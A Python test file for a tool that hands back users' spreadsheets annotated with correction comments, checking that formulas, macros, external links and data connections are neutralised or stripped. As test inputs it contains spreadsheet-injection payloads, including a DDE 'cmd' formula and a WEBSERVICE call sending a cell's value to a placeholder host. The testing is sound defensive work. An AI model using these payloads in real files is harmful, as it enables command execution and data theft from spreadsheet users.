"""Somebody's workbook given back: what is to be mended in sight, nothing in it that acts."""

import io
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from openpyxl.chart import BarChart
from openpyxl.comments import Comment
from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table as WorksheetTable

from prioritisation.imports.files.annotated import annotated_file
from prioritisation.imports.files.marks import CellMark, MarkWords, marks_as_sent, sent_marks
from prioritisation.imports.files.opening import opened_file
from prioritisation.imports.model import FileAnswers
from prioritisation.imports.process.service import run_limited
from prioritisation.imports.tables.reading import file_reading
from prioritisation.sentences.import_refusals import mark_words
from tests.cases.imports.opendocument import ods
from tests.cases.imports.writing import Computed, Page, Shown, Struck

WORDS = MarkWords("À corriger", "Copie", ("Nature", "Cellule", "Ici", "Attendu", "Que faire"), "P")
HOSTILE = '=HYPERLINK("http://x")'
MARKS = (
    CellMark("'Feuille d''1'!B2", "yes", "à corriger", HOSTILE, "un nombre", "=1+1"),
    CellMark("'Feuille d''1'!D2:D9", "", "à préciser", "x\x00", "@question", "-y"),
    CellMark("'Feuille d''1'!C", "", "à préciser", "x", "y", "z"),
    CellMark("Nulle part!A1", "yes", "à corriger", "", "", ""),
)


def workbook(macros=False, formulas=()):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Feuille d'1"
    for row in (("Levier", "Coût", "Accord"), ("Un", "quatre", "bon"), ("Deux", 12, "moyen")):
        sheet.append(row)
    sheet["B2"].comment = Comment("la mienne", "moi")
    sheet.merge_cells("C1:D2")
    for k, formula in enumerate(formulas):
        sheet[f"F{k + 1}"] = formula
    out = io.BytesIO()
    book.save(out)
    return with_macros(out.getvalue()) if macros else out.getvalue()


def with_macros(content):
    """The same as Excel writes a workbook that has some."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w") as after:
        for info in before.infolist():
            part = before.read(info)
            if info.filename == "[Content_Types].xml":
                plain = b"openxmlformats-officedocument.spreadsheetml.sheet.main"
                part = part.replace(
                    b"application/vnd." + plain,
                    b"application/vnd.ms-excel.sheet.macroEnabled.main",
                )
            after.writestr(info, part)
        after.writestr("xl/vbaProject.bin", b"macros")
    return out.getvalue()


def annotated(content, marks=MARKS):
    return annotated_file("x.xlsx", content, sent_marks(marks, WORDS))


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def test_marks_arrive_as_they_were_sent():
    """But for signs that no workbook holds."""
    marks, words = marks_as_sent(sent_marks(MARKS, WORDS))
    assert words == WORDS
    assert marks == (MARKS[0], replace(MARKS[1], found="x"), *MARKS[2:])


def test_each_cell_is_coloured_and_commented_and_the_rest_is_as_it_was():
    book = opened(annotated(workbook()))
    sheet = book["Feuille d'1"]
    assert book.sheetnames == ["À corriger", "Feuille d'1"]
    assert sheet["B2"].fill.start_color.rgb == "FFFFD9A0"
    assert sheet["B2"].comment.text == "la mienne\n\nun nombre\n=1+1"
    # D2 is under merged cells, of which the first one shows.
    assert sheet["C1"].fill.start_color.rgb == "FFCFE3F7"
    assert sheet["C1"].comment.text.startswith("@question")
    assert (sheet["B2"].value, sheet["B3"].value) == ("quatre", 12)
    assert sheet["B3"].comment is None


def test_the_first_sheet_leads_to_each_cell():
    book = opened(annotated(workbook()))
    page = book["À corriger"]
    rows = [[cell.value for cell in row] for row in page.iter_rows()]
    assert rows[0][0] == "Copie"
    assert rows[1] == list(WORDS.heads)
    assert [row[1] for row in rows[2:]] == [mark.cell for mark in MARKS]
    assert page["B3"].hyperlink.location == "'Feuille d''1'!B2"
    assert page["B4"].hyperlink.location == "'Feuille d''1'!D2"
    assert page["B5"].hyperlink is None
    assert book.active.title == "À corriger"


def test_nothing_that_is_quoted_is_a_formula():
    page = opened(annotated(workbook()))["À corriger"]
    cells = [cell for row in page.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert page["C3"].value == HOSTILE
    assert all(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&B2)',
        '=HYPERLINK("http://x","y")',
        "=cmd|' /C calc'!A0",
        "='[other.xlsx]S'!A1",
        '=IMPORTXML("http://x","//y")',
        '=IMAGE("http://x")',
    ],
)
def test_what_would_reach_elsewhere_is_a_text_that_shows_it(formula):
    sheet = opened(annotated(workbook(formulas=[formula, "=SUM(B2:B3)"])))["Feuille d'1"]
    assert (sheet["F1"].data_type, sheet["F1"].value) == ("s", formula)
    assert (sheet["F2"].data_type, sheet["F2"].value) == ("f", "=SUM(B2:B3)")


def test_a_stray_last_cell_is_no_reason_for_no_copy():
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book.active["XFD1048576"] = "égarée"
    out = io.BytesIO()
    book.save(out)
    made = run_limited("annotate", "f.xlsx", out.getvalue(), sent_marks(MARKS, WORDS))
    assert openpyxl.load_workbook(io.BytesIO(made)).worksheets[1]["XFD1048576"].value == "égarée"


REMOTE = "http://remote.example/"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OF_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
FETCHING_PARTS = {
    "xl/connections.xml": f'<connections xmlns="{_MAIN}"><connection id="1" name="c" type="5">'
    f'<dbPr connection="Data Source={REMOTE}"/></connection></connections>',
    "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{_MAIN}" name="q" connectionId="1"/>',
    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_MAIN}"><externalBook '
    f'xmlns:r="{_RELS}" r:id="rId1"/></externalLink>',
    "xl/embeddings/oleObject1.bin": REMOTE,
    "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_OF_PACKAGE}">'
    f'<Relationship Id="rId1" Type="{_RELS}/externalLinkPath" Target="{REMOTE}x.xlsx" '
    'TargetMode="External"/></Relationships>',
}
"""What a workbook has beside its sheets when it fetches."""


def reaching_workbook():
    """Each kind of thing that leads elsewhere, and the same that stays inside."""
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    sheet = book.active
    sheet["A2"].hyperlink = f"{REMOTE}a"
    sheet["A3"].hyperlink = "file://remote.example/share/b.xlsx"
    sheet["B3"].hyperlink = "mailto:somebody@remote.example"
    sheet["C3"].hyperlink = Hyperlink(ref="C3", location=f"{REMOTE}c")
    sheet["A1"].hyperlink = Hyperlink(ref="A1", location="'Feuille d''1'!B2")
    conditions = sheet.conditional_formatting
    conditions.add("A1:A9", FormulaRule([f"'{REMOTE}[x.xlsx]S'!$A$1>2"]))
    conditions.add("B1:B9", FormulaRule(["$B1>7"]))
    fetched = f'WEBSERVICE("{REMOTE}d")'
    ends = {"end_type": "max", "end_color": "FF00FF00"}
    conditions.add("D1:D9", ColorScaleRule("formula", fetched, "FFFF0000", **ends))
    for place, formula in (("A5", f"'{REMOTE}[x.xlsx]S'!$A$1:$A$3"), ("A6", "$A$1:$A$3")):
        sheet.add_data_validation(DataValidation("list", formula, sqref=place))
    sheet.add_table(WorksheetTable(displayName="q", ref="A1:B3", tableType="queryTable"))
    book.create_chartsheet("Graphique").add_chart(BarChart())
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out, "a") as archive:
        for name, part in FETCHING_PARTS.items():
            archive.writestr(name, part)
    return out.getvalue()


def with_chart_sheets(left_out):
    """A workbook with a sheet of charts on each side, its parts of that name left out."""
    book = openpyxl.load_workbook(io.BytesIO(workbook()))
    book.create_chartsheet("Avant", 0).add_chart(BarChart())
    book.create_chartsheet("Après").add_chart(BarChart())
    whole, out = io.BytesIO(), io.BytesIO()
    book.save(whole)
    with zipfile.ZipFile(whole) as before, zipfile.ZipFile(out, "w") as after:
        for name in before.namelist():
            if not (left_out and name.startswith(left_out)):
                after.writestr(name, before.read(name))
    return out.getvalue()


@pytest.mark.parametrize("left_out", ["", "xl/chartsheets/_rels/", "xl/drawings/", "xl/charts/"])
def test_sheets_of_charts_with_or_without_a_chart_do_not_come_along(left_out):
    copy = opened(annotated(with_chart_sheets(left_out)))
    assert copy.sheetnames == ["À corriger", "Feuille d'1"]
    sheet = copy["Feuille d'1"]
    assert sheet["B2"].comment.text.startswith("la mienne")


def whole_text(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "\n".join(
            archive.read(name).decode(errors="replace") for name in archive.namelist()
        )


def test_links_conditions_and_connections_that_lead_elsewhere_do_not_come_along():
    before = reaching_workbook()
    assert whole_text(before).count("remote.example") == 10
    content = annotated(before)
    assert "remote.example" not in whole_text(content)
    assert 'TargetMode="External"' not in whole_text(content)
    assert "queryTable" not in whole_text(content)
    assert opened(content).sheetnames == ["À corriger", "Feuille d'1"]
    sheet = opened(content)["Feuille d'1"]
    assert sheet["A2"].value == "Un"
    assert sheet["A1"].hyperlink.location == "'Feuille d''1'!B2"
    assert [str(one.sqref) for one in sheet.conditional_formatting] == ["B1:B9"]
    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ["$A$1:$A$3"]


def test_its_list_is_one_page_wide_on_paper():
    page = opened(annotated(workbook()))["À corriger"]
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert (page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (1, 0)
    assert page.page_setup.orientation == "landscape"
    assert page.print_title_rows == "$2:$2"


def test_macros_do_not_come_along():
    content = annotated(workbook(macros=True))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
        assert b"macroEnabled" not in archive.read("[Content_Types].xml")


def test_it_is_made_where_nothing_may_be_written():
    content = run_limited("annotate", "x.xlsx", workbook(), sent_marks(MARKS, WORDS))
    assert opened(content).sheetnames[0] == "À corriger"


def test_once_mended_it_is_given_again_and_its_list_is_no_table():
    words = replace(WORDS, caution=mark_words().caution)
    content = annotated_file("x.xlsx", workbook(), sent_marks(MARKS, words))
    reading = file_reading(opened_file("x.xlsx", content), FileAnswers())
    assert reading.layout.sheets == ("Feuille d'1",)
    assert [one.name for one in reading.levers] == ["Un", "Deux"]
    assert ("other_sheet", "À corriger") in {(one.why, one.text) for one in reading.left_out}


def test_another_kind_of_file_comes_back_as_a_workbook_that_is_read_the_same():
    """Its formulas and links are gone, its numbers as they were shown, its texts no formula."""
    name = "Une feuille dont le nom est bien plus long que trente-et-un signes"
    rows = [
        ["Projet", "Coût", None, "Part", "Accord"],
        ["Navette", Shown(35, "€"), None, Shown(0.12, "0%"), HOSTILE],
        ["Caché", 7, None, 8, "faible"],
        [Struck("Vélo"), "quatre", None, Computed("=1+1", 2), "fort"],
    ]
    page = Page(name, rows, merged=["B2:C2"], hidden_rows="3")
    mark = CellMark(f"'{name}'!B4", "yes", "à corriger", "quatre", "un nombre", "=1+1")
    content = annotated_file("x.ods", ods(page, Page("S", [["a"]])), sent_marks([mark], WORDS))
    copy = opened(content)
    assert copy.sheetnames == ["À corriger", name[:31], "S"]
    sheet = copy.worksheets[1]
    assert copy.worksheets[0]["B3"].hyperlink.location == f"'{name[:31]}'!B4"
    assert sheet["B4"].comment.text == "un nombre\n=1+1"
    assert (sheet["E2"].data_type, sheet["E2"].value) == ("s", HOSTILE)
    assert "f" not in {cell.data_type for row in sheet for cell in row}
    before, after = (opened_file("x", one) for one in (ods(page), content))
    mine, again = before.sheets[0], after.sheets[1]
    assert [[replace(c, computed=False) for c in row] for row in again.rows] == [
        [replace(c, computed=False) for c in row] for row in mine.rows
    ]
    assert again.hidden_rows == mine.hidden_rows
    text = annotated_file("x.csv", "a;b\n1;été\n3;=1+1\n".encode("cp1252"), sent_marks([], WORDS))
    assert [cell.value for cell in opened(text).worksheets[1]["B"]] == ["b", "été", "=1+1"]
